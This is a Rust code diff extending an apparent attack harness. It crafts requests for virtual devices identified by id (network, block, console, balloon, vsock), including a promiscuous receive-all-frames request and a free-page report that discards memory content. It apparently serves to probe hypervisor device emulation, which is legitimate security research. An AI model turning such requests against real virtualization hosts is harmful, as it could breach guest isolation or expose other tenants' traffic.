@@ -60,32 +60,73 @@ pub fn payload(slot: u16) -> u64 {
 }
 
 impl Attack<'_> {
-    /// A request that the device serves, in the memory of a slot, with `length` bytes of payload where
-    /// it has any.
+    /// The queues on which a device serves requests without anybody at its other end, the surest first.
+    pub fn serving_queues(&self) -> &'static [u16] {
+        match self.device.id {
+            1 => &[1, 2],
+            3 => &[3, 1],
+            5 => &[0, 1, 2, 4],
+            19 | 26 => &[1],
+            _ => &[0],
+        }
+    }
+
+    /// Features without which a good request is none.
+    pub fn needed(&self) -> u64 {
+        const CONSOLE_MULTIPORT: u64 = 1 << 1;
+        if self.device.id == 3 {
+            CONSOLE_MULTIPORT
+        } else {
+            0
+        }
+    }
+
+    /// A request that the device serves on the active queue, in the memory of a slot, with `length`
+    /// bytes of payload where it has any.
     pub fn request(&mut self, slot: u16, length: u32) -> Request {
         let (part, payload) = (part(slot), payload(slot));
-        match self.device.id {
+        match (self.device.id, self.active) {
+            // Receive all frames, promiscuously.
+            (1, 2) => {
+                poke_u16(part, 0);
+                poke_u8(part + 2, 1);
+                Request::new(&[out(part, 2), out(part + 2, 1), into(part + 64, 1)])
+            }
             // A frame to nobody.
-            1 => {
+            (1, _) => {
                 poke_u64(part, 0);
                 poke_u32(part + 8, 0);
                 poke_u64(part + 12, 0x5452_0100_0000_0002);
                 poke_u64(part + 20, 0xb588_5634_1200);
                 Request::new(&[out(part, FRAME)])
             }
-            2 => {
+            (2, _) => {
                 poke_u32(part, block::READ);
                 poke_u32(part + 4, 0);
                 poke_u64(part + 8, 0);
                 poke_u8(part + 64, 0xff);
                 Request::new(&[out(part, 16), into(payload, length), into(part + 64, 1)])
             }
-            3 => {
+            // The driver is ready.
+            (3, 3) => {
+                poke_u32(part, u32::MAX);
+                poke_u32(part + 4, 1 << 16);
+                Request::new(&[out(part, 8)])
+            }
+            (3, _) => {
                 poke_u8(part, b'\n');
                 Request::new(&[out(part, 1)])
             }
+            // Free memory, in bytes.
+            (5, 2) => {
+                poke_u16(part, 4);
+                poke_u64(part + 2, 1 << 20);
+                Request::new(&[out(part, 10)])
+            }
+            // A page reported as free, which loses its content.
+            (5, 4) => Request::new(&[into(payload, 4096)]),
             // A page nobody uses: behind the arena, or in it.
-            5 => {
+            (5, _) => {
                 let page = if self.ram_end > ARENA_END + (1 << 20) {
                     ARENA_END >> 12
                 } else {
@@ -95,7 +136,7 @@ impl Attack<'_> {
                 Request::new(&[out(part, 4)])
             }
             // A reset of a connection there is not.
-            19 => {
+            (19, _) => {
                 for offset in (0..48).step_by(8) {
                     poke_u64(part + offset, 0);
                 }
@@ -105,7 +146,7 @@ impl Attack<'_> {
                 poke_u16(part + 30, 3);
                 Request::new(&[out(part, 44)])
             }
-            4 => Request::new(&[into(payload, length)]),
+            (4, _) => Request::new(&[into(payload, length)]),
             _ => Request::new(&[out(part, 64), into(payload, length)]),
         }
     }
